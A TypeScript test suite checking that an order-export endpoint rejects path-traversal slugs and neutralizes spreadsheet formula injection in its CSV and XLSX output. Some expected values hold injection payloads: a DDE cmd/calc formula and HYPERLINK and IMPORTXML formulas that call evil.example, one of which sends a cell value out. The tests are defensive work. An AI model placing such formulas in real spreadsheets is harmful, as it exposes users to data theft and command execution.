import { expect } from 'chai';
import { execFile } from 'node:child_process';
import { mkdtemp, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { promisify } from 'node:util';
import { parse } from 'csv-parse/sync';
import { startApp, type RunningApp } from '../../helpers/app.js';
import { fetchAll, fetchProblem } from '../../helpers/http.js';
import { readWorkbookWithOpenpyxl } from '../../helpers/openpyxl.js';
import { seedDatabase, type SeededDatabase } from '../../helpers/seed-database.js';
import { readZipByName } from '../../helpers/zip.js';

const EXPORT = '/v1/exports/orders.zip';
const SAFE_NAME = /^(?:[a-z0-9-]{1,64}\/(?:orders|order_items)\.(?:csv|xlsx)|manifest\.json)$/;

describe('hostile data in the source database', () => {
  let database: SeededDatabase;
  let app: RunningApp;

  before(async () => {
    database = await seedDatabase({ fixture: 'hostile' });
    app = await startApp({ sourcePath: database.path });
  });
  after(async () => {
    await app.close();
    await database.remove();
  });

  it('cannot be asked for a hostile slug: the request is refused before the database is read', async () => {
    for (const slug of ['../../etc', '/absolute', 'back\\slash', 'ctrl\nname', 'UPPER', '']) {
      const { status, problem } = await fetchProblem(app.url(`${EXPORT}?shops=${encodeURIComponent(slug)}`));
      expect(status, JSON.stringify(slug)).to.equal(400);
      expect(problem.parameter).to.equal('shops');
    }
  });

  it('names every entry safely, and the archive passes unzip -t', async () => {
    const { status, body } = await fetchAll(app.url(`${EXPORT}?shops=safe`));
    expect(status).to.equal(200);
    const entries = await readZipByName(body);
    for (const name of entries.keys()) expect(name).to.match(SAFE_NAME);
    const directory = await mkdtemp(join(tmpdir(), 'shopzip-unzip-'));
    try {
      await writeFile(join(directory, 'export.zip'), body);
      const { stdout } = await promisify(execFile)('unzip', ['-t', join(directory, 'export.zip')]);
      expect(stdout).to.contain('No errors detected');
    } finally {
      await rm(directory, { recursive: true, force: true });
    }
  });

  it('neutralizes formula-like text in CSV with a leading quote, and leaves numbers alone', async () => {
    const entries = await readZipByName((await fetchAll(app.url(`${EXPORT}?shops=safe&formats=csv`))).body);
    const [, ...orders] = parse(entries.get('safe/orders.csv')!.data, { bom: true }) as string[][];
    const byNumber = new Map(orders.map((record) => [record[1], record]));
    expect(byNumber.get("'=1+1")?.slice(4, 6)).to.deep.equal(["'=HYPERLINK(\"http://evil.example\",\"x\")", "'=cmd|' /C calc'!A0"]);
    expect(byNumber.get("'=1+1")?.[12]).to.equal("'+SUM(1,2)");
    expect(byNumber.get("'-2+3")?.[4]).to.equal("'@SUM(A1:A2)");
    expect(byNumber.get("'-2+3")?.[12]).to.equal("'\t=1+2");
    expect(byNumber.get('CR-1')?.[4]).to.equal("'\r=1+3");
    expect(byNumber.get('NEG-1')?.slice(8, 13)).to.deep.equal(['-1.00', '0.00', '-0.19', '-1.19', "'-"]);
    expect(byNumber.get('CR-1')?.[12]).to.equal('control\u0001\u0002\u001b\u001fchars\uFFFE\uFFFF');
    const [, ...items] = parse(entries.get('safe/order_items.csv')!.data, { bom: true }) as string[][];
    expect(items.map((record) => [record[3], record[4], record[6]])).to.deep.equal([
      ["'=SKU()", "'=IMPORTXML(CONCAT(\"http://evil.example/?v=\",A1),\"//a\")", '1.00'],
      ["'+SKU", "'@title", '1.00'],
      ["'-SKU", "'-1", '-1.00'],
    ]);
  });

  it('writes formula-like text to XLSX as plain strings, never formulas', async () => {
    const entries = await readZipByName((await fetchAll(app.url(`${EXPORT}?shops=safe&formats=xlsx`))).body);
    const workbook = await readWorkbookWithOpenpyxl(entries.get('safe/orders.xlsx')!.data);
    const names = workbook.sheets[0]!.rows.slice(1).map((row) => [row[4]!.value, row[4]!.type]);
    expect(names).to.deep.include.members([['=HYPERLINK("http://evil.example","x")', 'str'], ['@SUM(A1:A2)', 'str'], ['\r=1+3', 'str']]);
    const totals = workbook.sheets[0]!.rows.slice(1).map((row) => row[11]!.value);
    expect(totals).to.include(-1.19);
  });

  it('answers a shop with an unknown time zone with a 500 problem before any byte, naming no internals', async () => {
    const { status, type, problem } = await fetchProblem(app.url(`${EXPORT}?shops=bad-zone`));
    expect(status).to.equal(500);
    expect(type).to.equal('application/problem+json');
    expect(JSON.stringify(problem)).not.to.match(/Mars|sqlite|SELECT|\/tmp|at \w+ \(/i);
  });
});
